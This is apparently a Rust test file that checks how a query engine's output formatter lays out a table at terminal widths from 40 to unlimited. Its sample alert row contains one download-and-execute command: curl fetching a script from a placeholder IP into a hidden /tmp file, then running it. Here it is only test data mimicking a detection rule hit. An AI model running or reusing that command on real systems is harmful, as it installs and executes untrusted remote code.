//! The table at several widths.

use esql_engine::functions::Session;
use esql_engine::sources::{Dataset, Options};
use esql_engine::{Control, Outcome, Query, Settings, run};

use super::super::{Format, Layout, write};

fn answer(query: &str) -> Outcome {
    let dataset = Dataset::open(&[], Options::default()).unwrap();
    let session = Session::at("2026-03-26T10:00:00Z".parse().unwrap());
    let settings = Settings::new(session);
    run(&Query::new("test", query), &dataset, &settings, &Control::default()).unwrap()
}

fn table(query: &str, width: Option<usize>, color: bool) -> String {
    let mut out = Vec::new();
    write(&answer(query), Format::Table, Layout { width, color }, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

/// A row like those of rules: long lists, long values, a number, a null.
const ALERT: &str = r#"ROW host.name = "web-01", count = 5,
    commands = ["curl -s http://198.51.100.23/a.sh -o /tmp/.a; chmod +x /tmp/.a; /tmp/.a", "id"],
    user.name = null, seen = "2026-03-26T09:14:00.000Z"::datetime"#;

#[test]
fn narrow_and_wide() {
    insta::assert_snapshot!("columns_80", table(ALERT, Some(80), false));
    insta::assert_snapshot!("columns_160", table(ALERT, Some(160), false));
    insta::assert_snapshot!("columns_unlimited", table(ALERT, None, false));
}

#[test]
fn names_that_do_not_fit_make_records() {
    insta::assert_snapshot!("columns_40", table(ALERT, Some(40), false));
}

#[test]
fn no_line_is_wider_than_the_terminal() {
    for width in 40..170 {
        for line in table(ALERT, Some(width), false).lines() {
            assert!(super::width(line) <= width, "{width}: {line}");
        }
    }
}

#[test]
fn colors_and_long_lists() {
    let list = "ROW a = [1, 2, 3, 4, 5, 6, 7, 8, 9, 10], b = null";
    insta::assert_snapshot!("long_list", table(list, Some(80), false));
    insta::assert_snapshot!("colors", format!("{:?}", table("ROW b = null", Some(80), true)));
}

#[test]
fn no_rows_are_no_table() {
    assert_eq!(table("ROW a = 1 | WHERE a > 1", Some(80), false), "");
}
